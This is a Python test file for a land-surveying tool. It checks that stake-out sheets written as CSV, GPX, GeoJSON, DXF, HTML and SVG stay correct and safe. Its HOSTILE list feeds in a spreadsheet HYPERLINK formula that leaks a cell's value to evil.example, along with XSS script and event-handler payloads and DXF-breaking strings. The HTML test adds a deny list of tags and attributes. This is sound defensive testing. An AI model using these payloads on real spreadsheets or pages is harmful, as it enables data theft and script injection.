"""The stake-out sheet in every format, read back by other libraries, and with hostile names."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ElementTree
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pyproj
import pytest
import shapely

from tests.io.stake_sheet_example import example_sheet
from tests.report.browser import browser
from tunnelsite.core.errors import InputRefused, OutputFailed, UsageError
from tunnelsite.io.formats.stake_dxf import stake_dxf
from tunnelsite.io.formats.stake_page import page_html
from tunnelsite.io.formats.stake_sheets import stake_geojson, stake_gpx, write_stake_sheet
from tunnelsite.io.formats.stake_sketch import sketch_svg
from tunnelsite.io.read.level_books import read_level_book

NS = "{http://www.topografix.com/GPX/1/1}"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "]]>&amp;<!--",
    "0\nEOF\n  0\nSECTION",
    "a\x00b\x08c\ud800d",
    "%%c%%d",
    "\u202egnirts",
    "Süd-Wiese 😀",
    "x" * 5000,
]


@pytest.fixture(scope="module")
def sheet():
    return example_sheet()


def _named(sheet, words: str):
    """The sheet with the same hostile words as title, label, house, heights and note."""
    points = (replace(sheet.points[0], label=words), *sheet.points[1:])
    return replace(sheet, title=words, house=words, heights_words=words, notes=(words,), points=points)


# --- the sheet itself


def test_places_are_where_the_tape_says(sheet) -> None:
    """Independent of the local grid: geodesic distances between corners, and their bearing."""
    corners = {point.label: point for point in sheet.of_kind("corner")}
    geod = pyproj.Geod(ellps="WGS84")

    def between(one: str, other: str) -> tuple[float, float]:
        a, b = corners[one], corners[other]
        azimuth, _, distance = geod.inv(a.lon_deg, a.lat_deg, b.lon_deg, b.lat_deg)
        return distance, azimuth % 360

    assert between("NW", "NE") == pytest.approx((96 * 0.3048, 90.0), abs=1e-3)
    assert between("SE", "NE")[0] == pytest.approx(30 * 0.3048, abs=1e-4)
    for one, other in (("NW", "SE"), ("NE", "SW")):
        assert between(one, other)[0] == pytest.approx(100.5783 * 0.3048, abs=1e-3)
    assert sheet.true_deg == pytest.approx(90.0, abs=1e-3)


def test_map_coordinates_are_those_of_the_maps_system(sheet) -> None:
    to_map = pyproj.Transformer.from_crs("EPSG:4326", sheet.crs, always_xy=True)
    for point in sheet.points:
        assert (point.easting, point.northing) == pytest.approx(
            to_map.transform(point.lon_deg, point.lat_deg), abs=2e-3
        )


def test_cut_is_ground_less_finish_and_none_where_nothing_is_finished(sheet) -> None:
    for point in sheet.points:
        if point.kind in ("offset", "board", "bench"):
            assert point.finish_m is None and point.cut_m is None and point.ground_m is not None
        else:
            assert point.cut_m == pytest.approx(point.ground_m - point.finish_m)


def test_unknown_ground_is_none_never_zero() -> None:
    whole = example_sheet()
    points = tuple(replace(point, ground_m=None, cut_m=None) for point in whole.points)
    blank = replace(whole, points=points)
    assert "<ele>" not in stake_gpx(blank) and '"ground_m": null' in stake_geojson(blank)
    assert "&ndash;" in page_html(blank)


# --- CSV


def test_csv_reads_back(tmp_path, sheet) -> None:
    write_stake_sheet(tmp_path / "stakes.csv", sheet)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "stakes.csv").read_text("utf-8"))))
    assert len(rows) == len(sheet.points)
    for row, point in zip(rows, sheet.points, strict=True):
        assert row["label"] == point.label and row["kind"] == point.kind
        assert float(row["along_m"]) == pytest.approx(point.along_m, abs=5e-5)
        assert float(row["along_ft"]) == pytest.approx(point.along_m / 0.3048, abs=5e-4)
        assert (row["cut_m"] == "") == (point.cut_m is None)


@pytest.mark.parametrize("words", HOSTILE[:6])
def test_no_cell_of_the_csv_is_a_formula(tmp_path, sheet, words: str) -> None:
    write_stake_sheet(tmp_path / "s.csv", _named(sheet, words))
    for row in csv.reader(io.StringIO((tmp_path / "s.csv").read_bytes().decode("utf-8"), newline="")):
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


# --- GPX 1.1


def _check_gpx(text: str) -> ElementTree.Element:
    """The parts of the GPX 1.1 schema that these files use: element order, required attributes, ranges."""
    root = ElementTree.fromstring(text.encode("utf-8"))
    assert root.tag == f"{NS}gpx" and root.get("version") == "1.1" and root.get("creator")
    order = {
        "gpx": ["metadata", "wpt", "rte", "trk", "extensions"],
        "metadata": ["name", "desc", "author", "copyright", "link", "time", "keywords", "bounds", "extensions"],
        "wpt": ["ele", "time", "magvar", "geoidheight", "name", "cmt", "desc", "src", "link", "sym", "type", "fix"],
        "rte": ["name", "cmt", "desc", "src", "link", "number", "type", "extensions", "rtept"],
    }
    order["rtept"] = order["wpt"]
    for element in root.iter():
        name = element.tag.removeprefix(NS)
        children = [child.tag.removeprefix(NS) for child in element]
        assert all(child in order.get(name, []) for child in children), (name, children)
        places = [order[name].index(child) for child in children]
        assert places == sorted(places), (name, children)
        many = {"wpt", "rte", "rtept", "link"}
        assert all(children.count(child) == 1 for child in set(children) - many)
        if name in ("wpt", "rtept"):
            assert -90 <= float(element.get("lat")) <= 90 and -180 <= float(element.get("lon")) < 180
            assert set(element.attrib) == {"lat", "lon"}
        if name == "bounds":
            assert set(element.attrib) == {"minlat", "minlon", "maxlat", "maxlon"}
        if name == "ele":
            assert math.isfinite(float(element.text))
    return root


def test_gpx_keeps_to_the_schema_and_reads_back_in_another_library(sheet) -> None:
    gpxpy = pytest.importorskip("gpxpy")
    text = stake_gpx(sheet)
    _check_gpx(text)
    found = gpxpy.parse(text)
    assert len(found.waypoints) == len(sheet.points)
    for mark, point in zip(found.waypoints, sheet.points, strict=True):
        assert (mark.name, mark.type) == (point.label, point.kind)
        assert (mark.longitude, mark.latitude) == pytest.approx((point.lon_deg, point.lat_deg), abs=1e-9)
        assert mark.elevation == pytest.approx(point.ground_m, abs=5e-4)
    assert len(found.routes[0].points) == 5
    assert found.routes[0].points[0].name == found.routes[0].points[-1].name


@pytest.mark.parametrize("words", HOSTILE)
def test_gpx_stays_well_formed(sheet, words: str) -> None:
    root = _check_gpx(stake_gpx(_named(sheet, words)))
    name = root.find(f"{NS}wpt/{NS}name").text
    assert (
        name.replace("\n", " ").split()[:1]
        == re.sub("[\x00\x08\ud800\u202e]", "\ufffd", words).replace("\r", "\n").split()[:1]
    )


def test_gpx_at_the_antimeridian() -> None:
    _check_gpx(stake_gpx(example_sheet(lonlat=(179.99996, -17.0), crs="EPSG:3832")))


# --- GeoJSON


@pytest.mark.parametrize("words", ["plain", *HOSTILE])
def test_geojson_is_rfc_7946(sheet, words: str) -> None:
    found = json.loads(stake_geojson(_named(sheet, words)))
    assert found["type"] == "FeatureCollection" and "crs" not in found
    for feature in found["features"]:
        assert set(feature) >= {"type", "geometry", "properties"} and feature["type"] == "Feature"
        for place in np.array(feature["geometry"]["coordinates"], float).reshape(-1, 2):
            assert -180 <= place[0] <= 180 and -90 <= place[1] <= 90
    ring = found["features"][0]["geometry"]["coordinates"][0]
    assert ring[0] == ring[-1] and len(ring) == 5
    assert shapely.is_ccw(shapely.linearrings(ring))
    assert found["features"][0]["properties"]["label"] == words
    assert len(found["features"]) == 1 + len(sheet.points)


# --- DXF


def test_dxf_opens_in_its_library_without_a_fault(sheet, tmp_path) -> None:
    ezdxf = pytest.importorskip("ezdxf")
    write_stake_sheet(tmp_path / "s.dxf", sheet)
    drawing = ezdxf.readfile(tmp_path / "s.dxf")
    assert drawing.dxfversion == "AC1009" and not drawing.audit().errors
    points = {(round(p.dxf.location.x, 3), round(p.dxf.location.y, 3)) for p in drawing.modelspace().query("POINT")}
    assert points == {(round(point.easting, 3), round(point.northing, 3)) for point in sheet.points}
    layers = {entity.dxf.layer for entity in drawing.modelspace()}
    assert {"CORNER", "GRID", "POST", "BOARD", "FOOTPRINT", "PAD", "DIAGONALS", "NOTES"} <= layers
    house = drawing.modelspace().query("POLYLINE[layer=='FOOTPRINT']")[0]
    corners = [vertex.dxf.location for vertex in house.vertices]
    assert corners[0].distance(corners[2]) == pytest.approx(100.5783 * 0.3048, rel=5e-4)  # UTM's scale
    words = " ".join(text.dxf.text for text in drawing.modelspace().query("TEXT"))
    assert "metre" in words
    for caution in sheet.cautions:  # whole: release 12 ends a text at 255 letters
        assert caution in words


def test_dxf_of_a_map_in_feet_is_in_feet() -> None:
    ezdxf = pytest.importorskip("ezdxf")
    feet = example_sheet(crs="EPSG:2263", lonlat=(-73.9, 41.0))
    drawing = ezdxf.read(io.StringIO(stake_dxf(feet).decode("ascii")))
    house = drawing.modelspace().query("POLYLINE[layer=='FOOTPRINT']")[0]
    corners = [vertex.dxf.location for vertex in house.vertices]
    assert corners[0].distance(corners[2]) == pytest.approx(100.5783, rel=5e-4)
    mark = drawing.modelspace().query("POINT[layer=='CORNER']")[0]
    assert mark.dxf.location.z == pytest.approx(feet.of_kind("corner")[0].ground_m / 0.3048006, rel=1e-6)


@pytest.mark.parametrize("words", HOSTILE)
def test_dxf_text_cannot_break_the_drawing(sheet, words: str) -> None:
    ezdxf = pytest.importorskip("ezdxf")
    data = stake_dxf(_named(sheet, words))
    drawing = ezdxf.read(io.StringIO(data.decode("ascii")))
    assert not drawing.audit().errors
    assert len(drawing.modelspace().query("POINT")) == len(sheet.points)
    assert all("%%" not in text.dxf.text for text in drawing.modelspace().query("TEXT"))


def test_dxf_in_degrees_or_without_its_library_is_refused(sheet, monkeypatch) -> None:
    pytest.importorskip("ezdxf")
    with pytest.raises(UsageError, match="degrees"):
        stake_dxf(replace(sheet, crs=pyproj.CRS(4326)))
    monkeypatch.setitem(__import__("sys").modules, "ezdxf.addons.r12writer", None)
    with pytest.raises(UsageError, match="ezdxf is not installed"):
        stake_dxf(sheet)


# --- the page

VOID = {"meta", "br", "link", "img", "input", "hr"}


class _Page(HTMLParser):
    """Collects tags, attributes and text, and sees that every element is closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attributes) -> None:
        self.tags.append((tag, dict(attributes)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes) -> None:
        self.tags.append((tag, dict(attributes)))

    def handle_endtag(self, tag) -> None:
        assert self.open and self.open[-1] == tag, f"</{tag}> closes {self.open[-1:]}"
        self.open.pop()

    def handle_data(self, data) -> None:
        if self.open and self.open[-1] != "style":
            self.text.append(data)


def _page(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    page.close()
    assert not page.open
    return page


@pytest.mark.parametrize("words", ["North field", *HOSTILE])
def test_the_page_asks_for_nothing_and_runs_nothing(sheet, words: str) -> None:
    text = page_html(_named(sheet, words))
    page = _page(text)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {
        "script",
        "link",
        "img",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "image",
        "use",
        "a",
        "foreignobject",
    }
    for _, attributes in page.tags:
        for name, value in attributes.items():
            assert (
                not name.startswith("on")
                and name not in ("src", "href", "xlink:href", "srcset", "action", "data", "style")
            ) or (name == "style" and "url" not in value)
    style = re.search(r"<style>(.*?)</style>", text, re.S)[1]
    assert "url(" not in style and "@import" not in style
    assert not re.findall(r"https?://(?!www\.w3\.org/2000/svg)", text.replace("http://evil.example", ""))
    policy = [attributes for tag, attributes in page.tags if attributes.get("http-equiv") == "Content-Security-Policy"]
    assert policy and "default-src 'none'" in policy[0]["content"]
    plain = " ".join("".join(page.text).split())
    assert " ".join(words.replace("\x00", "\ufffd").split())[:60] in plain.replace("\x00", "\ufffd")


def test_the_page_says_what_a_crew_needs(sheet) -> None:
    words = " ".join("".join(_page(page_html(sheet)).text).split())
    for wanted in (
        "100 ft 6 15/16 in (30.656 m)",
        "40 ft (12.192 m)",
        "30 ft (9.144 m)",
        "50 ft (15.240 m)",
        "BOTH diagonals",
        "811",
        "overhead lines",
        "level every stake in the field",
        "Local codes",
        "maker's drawings",
        "only if opposite sides are equal too",
        "25 posts on each long side",
        "24 equal spaces of 4 ft (1.219 m)",
        "WMM2025",
        "valid 2025-01-01 to 2029-12-31",
        "grid north",
        "0.083 deg off square, 1/2 in",
    ):
        assert wanted in words, wanted
    for point in sheet.points:
        if point.kind != "post":
            assert point.label in words


@pytest.mark.parametrize("wide", [1280, 390])
def test_no_name_of_a_stake_is_broken_and_nothing_runs_out_of_the_side(sheet, tmp_path, wide: int) -> None:
    """`NE offset across` stood as `NE / offset / acros / s` in a column that its neighbours had squeezed."""
    file = tmp_path / "stakes.html"
    file.write_text(page_html(sheet), "utf-8")
    with browser() as started:
        page = started.new_page(viewport={"width": wide, "height": 900})
        page.goto(file.as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= wide
        lines = page.evaluate(
            """() => [...document.querySelectorAll('.stakes td:first-child')].map((cell) => {
                 const range = document.createRange();
                 range.selectNodeContents(cell);
                 return [cell.textContent, new Set([...range.getClientRects()].map((one) => one.top)).size];
               })"""
        )
    assert len(lines) == 100
    for name, count in lines:
        assert count <= len(name.split()), name


def test_notes_do_not_take_a_sheet_of_their_own(sheet) -> None:
    """The new sheet begins with the notes, or with the stakes where there are none."""
    noted = page_html(replace(sheet, notes=("heights are those of a plan",)))
    assert re.findall(r'<h2 class="new">(.*?)</h2>', noted) == ["Notes"]
    assert re.findall(r'<h2 class="new">(.*?)</h2>', page_html(replace(sheet, notes=()))) == [
        "Stakes of the house and pad"
    ]


def test_a_metric_page_counts_in_metres() -> None:
    words = " ".join("".join(_page(page_html(example_sheet(size="9.1x29.3m", bearing_deg=60))).text).split())
    assert "12.000 m" in words and "9.000 m" in words and "15.000 m" in words
    assert "<td>29.300 m</td><td>96 ft" in page_html(example_sheet(size="9.1x29.3m"))  # the user's own unit first
    assert "along, m" in words and "10 mm apart" in words and "60.00 deg" in words


def test_the_sketch_is_to_scale_and_well_formed(sheet) -> None:
    root = ElementTree.fromstring(sketch_svg(sheet))
    boxes = [element for element in root if element.tag.endswith("rect")][:2]
    sizes = [(float(box.get("width")), float(box.get("height"))) for box in boxes]
    assert sizes[1][0] / sizes[1][1] == pytest.approx(96 / 30, abs=0.01)
    assert sizes[0][0] / sizes[1][0] == pytest.approx(sheet.pad_length_m / sheet.length_m, abs=1e-3)
    view = [float(value) for value in root.get("viewBox").split()]
    for element in root.iter():
        for name, most in (("x", view[2]), ("cx", view[2]), ("y", view[3]), ("cy", view[3])):
            if element.get(name) is not None:
                assert -40 <= float(element.get(name)) <= most


# --- writing


def test_endings_choose_the_format_and_nothing_is_lost(sheet, tmp_path) -> None:
    with pytest.raises(UsageError, match=r"\.csv or \.gpx"):
        write_stake_sheet(tmp_path / "s.pdf", sheet)
    for ending in ("csv", "gpx", "geojson", "dxf", "html"):
        path = tmp_path / f"s.{ending}"
        write_stake_sheet(path, sheet)
        before = path.read_bytes()
        with pytest.raises(OutputFailed, match="exists"):
            write_stake_sheet(path, sheet)
        write_stake_sheet(path, sheet, overwrite=True)
        assert path.read_bytes() == before  # the same sheet, the same bytes
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(
        f"s.{e}" for e in ("csv", "gpx", "geojson", "dxf", "html")
    )


def test_level_books_are_read_as_text_or_refused(tmp_path) -> None:
    good = tmp_path / "book.csv"
    good.write_bytes("\ufeffstation,backsight\r\nBM,1.0\r\n".encode())
    assert read_level_book(good).text.startswith("station")
    for name, data, words in (
        ("empty.csv", b" \n", "empty"), ("latin.csv", "Höhe".encode("latin-1"), "UTF-8"), ("null.csv", b"a\0b", "null"),
        ("huge.csv", b"a" * 5_000_001, "larger"),
    ):  # fmt: skip
        (tmp_path / name).write_bytes(data)
        with pytest.raises(InputRefused, match=words):
            read_level_book(tmp_path / name)
    with pytest.raises(InputRefused, match="cannot be read"):
        read_level_book(tmp_path / "missing.csv")
    with pytest.raises(InputRefused, match="cannot be read"):
        read_level_book(tmp_path)
